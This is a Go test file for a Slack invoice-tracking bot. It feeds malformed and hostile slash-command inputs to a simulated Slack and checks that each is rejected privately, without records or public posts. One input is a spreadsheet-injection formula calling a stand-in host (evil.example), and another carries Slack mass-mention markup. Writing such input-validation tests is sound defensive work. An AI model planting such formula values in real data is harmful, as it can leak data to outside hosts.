package show

import (
	"fmt"
	"strings"
	"testing"
	"testing/synctest"
	"time"

	"github.com/relance-bot/relance/internal/sim/slacksim"
	"github.com/relance-bot/relance/ledger"
)

// TestWhatPeopleShouldNotDo puts to the whole product what Slack lets through:
// each is answered in words, nothing of it is recorded twice or at all, and
// nothing is posted for others to see.
func TestWhatPeopleShouldNotDo(t *testing.T) {
	synctest.Test(t, func(t *testing.T) {
		w := scenario(t, Options{Data: bookOfOwed(
			t,
			owed{"A-1", "Acme", "Oliver Hughes", 20, "1200"},
			owed{"A-2", "Acme", "Oliver Hughes", 15, "100"},
		), KeepWaiting: true})
		paid := func(number string) string {
			inv, ok := bookOf(t, w).Invoice(ledger.KeyOf(number))
			if !ok {
				t.Fatalf("no invoice %s", number)
			}
			return inv.Paid().String()
		}
		posts := func() int {
			n := 0
			for _, m := range w.Slack.Messages(ChannelGeneral) {
				if m.ByBot && m.EphemeralFor == "" {
					n++
				}
			}
			return n
		}
		for _, tt := range []struct {
			story, line, want string
		}{
			{"less than nothing", "/relance paid A-1 -100", "amount"},
			{"nothing", "/relance paid A-1 0", "amount"},
			{"a number with no end", "/relance paid A-1 99999999999999999999", "amount"},
			{"no number", "/relance paid A-1 NaN", ""},
			{"another currency", "/relance paid A-1 100 USD", ""},
			{"a day that isn't one", "/relance paid A-1 100 2026-02-30", ""},
			{"an invoice that isn't there", "/relance paid Z-9 100", ""},
			{"three thousand and one characters", "/relance dispute A-1 " + strings.Repeat("x", 3001), ""},
			{"three thousand and one letters that are nothing", "/relance " + strings.Repeat("é", 3001), ""},
			{"markup", "/relance <!channel> <@U0NOBODY01> *_~`", ""},
			{"control and direction characters", "/relance \u202egnp\u0007\u200b", ""},
			{"a formula", `/relance snooze A-1 =IMPORTXML("http://evil.example")`, ""},
		} {
			m := ask(t, w, daniel, tt.line)
			if m.Text == "" || !strings.Contains(strings.ToLower(m.Text), tt.want) || strings.Contains(m.Text, "reference") {
				t.Errorf("%s is answered by %q", tt.story, m.Text)
			}
			if strings.Contains(fmt.Sprintf("%s %s", m.Text, m.Blocks), "<!channel>") {
				t.Errorf("%s: markup comes back as such: %q", tt.story, m.Text)
			}
		}
		if paid("A-1") != "0.00" || posts() != 0 {
			t.Errorf("paid %s, %d posts for all to see", paid("A-1"), posts())
		}

		// More than is open is asked about first; confirming it twice is one payment.
		over := ask(t, w, daniel, "/relance paid A-2 150")
		if paid("A-2") != "0.00" {
			t.Errorf("an overpayment is recorded unasked: %q", over.Text)
		}
		click(t, w, daniel, over, "pay_sure")
		if r, err := w.Slack.Human(daniel).Click(t.Context(), ChannelGeneral, over.TS, "pay_sure"); err == nil && !r.Acked {
			t.Errorf("the second click is not acknowledged: %+v", r)
		}
		time.Sleep(10 * time.Second)
		if got := paid("A-2"); got != "150.00" {
			t.Errorf("after two clicks on the overpayment %s are paid", got)
		}

		// A second click on a button is harmless.
		card := ask(t, w, daniel, "/relance A-1")
		first := click(t, w, daniel, card, "take")
		second := first
		if r, err := w.Slack.Human(daniel).Click(t.Context(), ChannelGeneral, card.TS, "take"); err == nil && r.Acked {
			time.Sleep(10 * time.Second)
			second = lastAnswer(t, w, daniel)
		}
		if second.Text == "" {
			t.Error("a second click is answered by nothing")
		}
		inv, _ := bookOf(t, w).Invoice(ledger.KeyOf("A-1"))
		if inv.TakenBy == "" {
			t.Error("the first click did nothing")
		}
		if posts() != 0 {
			t.Errorf("%d posts for all to see", posts())
		}

		// After all that it answers as ever.
		if got := ask(t, w, daniel, "/relance A-1").Text; !strings.Contains(got, "A-1") {
			t.Errorf("it answers %q", got)
		}
	})
}

func lastAnswer(t *testing.T, w *World, user string) slacksim.Message {
	t.Helper()
	list := w.Slack.Messages(ChannelGeneral)
	for i := len(list) - 1; i >= 0; i-- {
		if list[i].EphemeralFor == user && !list[i].Deleted {
			return list[i]
		}
	}
	return slacksim.Message{}
}
